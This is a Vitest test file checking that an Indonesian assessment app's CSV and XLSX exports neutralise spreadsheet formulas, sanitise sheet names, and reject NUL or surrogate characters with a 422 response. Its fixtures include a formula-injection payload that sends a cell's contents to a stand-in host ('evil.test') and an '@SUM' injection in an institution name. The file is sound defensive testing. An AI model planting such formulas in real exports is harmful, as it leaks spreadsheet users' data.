import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { NextRequest } from "next/server";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { CurrentUser } from "@/lib/server/auth/current-user";
import { closeServerLayer, configureServerEnvironment, loadDemoActors, useSeededDatabase } from "./support/test-database";

// Issue 13 through the real route handlers: defect 9 (formulas in CSV exports), 11 (the rankings
// XLSX of the default group, "Kementerian/Lembaga", and locus names with / \ ? * : [ ]) and 12 (a
// NUL in a justification, a note or a search is a 4xx with its message, not a 500).

const request = vi.hoisted(() => ({ actor: null as CurrentUser | null }));
vi.mock("next/headers", () => ({
  headers: async () => new Headers({ host: "localhost", "user-agent": "Vitest" }),
  cookies: async () => ({ get: () => undefined }),
}));
// The catalogue's real texts (Bahasa Indonesia), as the routes get them in a request.
vi.mock("next-intl/server", async () => {
  const { createFormatter, createTranslator } = await import("use-intl");
  const { MESSAGES } = await import("@/lib/i18n/messages");
  return {
    getTranslations: async (namespace?: string) => createTranslator({ locale: "id", messages: MESSAGES.id, namespace: namespace as never }),
    getFormatter: async () => createFormatter({ locale: "id", timeZone: "Asia/Jakarta" }),
    getLocale: async () => "id",
  };
});
// The signed-in user, without a session cookie.
vi.mock("@/lib/server/auth/current-user", async (original) => ({
  ...(await original<typeof import("@/lib/server/auth/current-user")>()),
  getCurrentUser: async () => request.actor,
}));
vi.mock("@/lib/server/auth/session-cookie", async (original) => ({
  ...(await original<typeof import("@/lib/server/auth/session-cookie")>()),
  readSessionClaims: async () => null,
}));

type Handler = (request: NextRequest, context: { params: Promise<unknown> }) => Promise<Response>;

const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Klik")';
const LOCUS_NAME = "Loket [Utama]: A/B? *\\";

describe("export files and text inputs (issue 13)", () => {
  let database: Awaited<ReturnType<typeof useSeededDatabase>>;
  let client: pg.Client;
  let actors: Record<string, CurrentUser>;
  let rankings: (request: NextRequest) => Promise<Response>;
  let locusExport: Handler;
  let answers: Handler;
  let verifiedAnswers: Handler;
  let palembangDraft: string;
  let klInstitution: string;

  const one = async (sql: string, params: unknown[] = []) => (await client.query(sql, params)).rows[0];
  const get = (url: string) => new NextRequest(`http://localhost${url}`);
  const post = (url: string, body: string) =>
    new NextRequest(`http://localhost${url}`, {
      method: "POST",
      body,
      headers: { "content-type": "application/json", origin: "http://localhost", host: "localhost" },
    });
  const params = (id: string) => ({ params: Promise.resolve({ id }) });

  beforeAll(async () => {
    database = await useSeededDatabase();
    configureServerEnvironment(database.url);
    client = new pg.Client({ connectionString: database.url });
    await client.connect();
    actors = await loadDemoActors(client);

    // Texts a user could have typed, each starting a formula.
    klInstitution = (
      await one(
        `SELECT i.id FROM "Institution" i JOIN "InstitutionResult" r ON r."institutionId" = i.id JOIN "Cycle" c ON c.id = r."cycleId"
         WHERE i.type = 'KL' AND c."publishedAt" IS NOT NULL ORDER BY c.year DESC, i.code LIMIT 1`,
      )
    ).id;
    await client.query(`UPDATE "Institution" SET name = $2 WHERE id = $1`, [klInstitution, `@SUM(1+1) Kementerian Uji`]);
    palembangDraft = (
      await one(
        `SELECT a.id FROM "Assessment" a JOIN "Cycle" c ON c.id = a."cycleId" JOIN "Locus" l ON l.id = a."locusId" JOIN "Institution" i ON i.id = l."institutionId"
         WHERE c.status = 'ACTIVE' AND i.code = 'KOTA-16-PALEMBANG' AND a.status = 'DRAFT' LIMIT 1`,
      )
    ).id;
    await client.query(`UPDATE "Locus" SET name = $2 WHERE id = (SELECT "locusId" FROM "Assessment" WHERE id = $1)`, [palembangDraft, LOCUS_NAME]);
    const answered = await client.query(`UPDATE "SelfAnswer" SET justification = $2 WHERE "assessmentId" = $1 AND level IS NOT NULL RETURNING id`, [
      palembangDraft,
      FORMULA,
    ]);
    expect(answered.rowCount).toBeGreaterThan(0);

    ({ GET: rankings } = await import("@/app/api/results/rankings/route"));
    ({ GET: locusExport } = await import("@/app/api/assessments/[id]/export/route"));
    ({ POST: answers } = await import("@/app/api/assessments/[id]/answers/route"));
    ({ POST: verifiedAnswers } = await import("@/app/api/assessments/[id]/verified-answers/route"));
  });
  afterAll(async () => {
    await client.end();
    await closeServerLayer(database);
  });

  describe("the public rankings", () => {
    it("export the default group (K/L) as XLSX, its sheet named validly", async () => {
      const response = await rankings(get("/api/results/rankings?format=xlsx"));
      expect(response.status).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await response.arrayBuffer()) as ArrayBuffer);
      expect(workbook.worksheets[0]!.name).toBe("Kementerian-Lembaga");
      expect(response.headers.get("content-disposition")).toMatch(
        /^attachment; filename="peringkat-[a-z0-9-]+\.xlsx"; filename\*=UTF-8''peringkat-[a-z0-9-]+\.xlsx$/,
      );
    });

    it("export as CSV with every formula neutralised and every number as the page shows it", async () => {
      const response = await rankings(get("/api/results/rankings?format=csv"));
      expect(response.status).toBe(200);
      const rows = parse(Buffer.from(await response.arrayBuffer()), { bom: true, columns: true }) as Record<string, string>[];
      expect(rows.map((r) => r.Instansi)).toContain("'@SUM(1+1) Kementerian Uji");
      expect(rows.every((r) => !/^[=+\-@]/.test(r.Instansi!))).toBe(true);
      for (const row of rows) {
        expect(row.Peringkat).toMatch(/^\d+$/);
        expect(row.Indeks).toMatch(/^\d\.\d\d$/);
      }
    });

    it("refuse a search holding a NUL with the message, rather than failing or ignoring it", async () => {
      const response = await rankings(get("/api/results/rankings?format=csv&q=Kota%00"));
      expect(response.status).toBe(422);
      expect(await response.json()).toMatchObject({ error: "validation.textInvalidCharacters" });
    });
  });

  describe("a locus's export", () => {
    it("writes its justifications into the CSV as text, never as a formula", async () => {
      request.actor = actors["admin@pekppp.test"]!;
      const response = await locusExport(get(`/api/assessments/${palembangDraft}/export?format=csv`), params(palembangDraft));
      expect(response.status).toBe(200);
      const rows = parse(Buffer.from(await response.arrayBuffer()), { bom: true, columns: true }) as Record<string, string>[];
      const justifications = rows.map((r) => r.Penjelasan);
      expect(justifications).toContain(`'${FORMULA}`);
      expect(justifications).not.toContain(FORMULA);
    });

    it("names its XLSX sheet after a locus whose name holds [ ] : / ? * \\", async () => {
      request.actor = actors["admin@pekppp.test"]!;
      const response = await locusExport(get(`/api/assessments/${palembangDraft}/export?format=xlsx`), params(palembangDraft));
      expect(response.status).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await response.arrayBuffer()) as ArrayBuffer);
      expect(workbook.worksheets[0]!.name).toBe("Loket -Utama-- A-B- --");
      // In the XLSX the formula stays a text cell.
      const cells: unknown[] = [];
      workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell.value)));
      expect(cells).toContain(FORMULA);
    });
  });

  describe("text with a NUL or an unpaired surrogate", () => {
    it("is refused in a justification with 422 and its message, and nothing is saved", async () => {
      request.actor = actors["evaluator.palembang@pekppp.test"]!;
      const before = await one(`SELECT count(*)::int AS n FROM "AuditEvent"`);
      for (const bad of ["\\u0000", "\\ud800"]) {
        const response = await answers(
          post(`/api/assessments/${palembangDraft}/answers`, `{"indicatorCode":"1.a.Ak","level":3,"justification":"SK ada ${bad} di arsip","baseVersion":0}`),
          params(palembangDraft),
        );
        expect(response.status).toBe(422);
        expect(await response.json()).toMatchObject({
          error: "validation.textInvalidCharacters",
          fieldErrors: { justification: ["validation.textInvalidCharacters"] },
        });
      }
      expect(await one(`SELECT count(*)::int AS n FROM "AuditEvent"`)).toEqual(before);
    });

    it("is refused in a verifier's note the same way", async () => {
      const submitted = (
        await one(
          `SELECT a.id, u.email FROM "Assessment" a JOIN "Cycle" c ON c.id = a."cycleId" JOIN "Locus" l ON l.id = a."locusId"
           JOIN "VerifierAssignment" v ON v."cycleId" = c.id AND v."institutionId" = l."institutionId" JOIN "User" u ON u.id = v."verifierId"
           WHERE c.status = 'ACTIVE' AND a.status = 'IN_REVIEW' AND u.email = 'verifikator@pekppp.test' LIMIT 1`,
        )
      ).id;
      request.actor = actors["verifikator@pekppp.test"]!;
      const response = await verifiedAnswers(
        post(`/api/assessments/${submitted}/verified-answers`, `{"indicatorCode":"1.a.Ak","level":3,"note":"cek\\u0000","baseVersion":0}`),
        params(submitted),
      );
      expect(response.status).toBe(422);
      expect(await response.json()).toMatchObject({ error: "validation.textInvalidCharacters" });
    });
  });
});
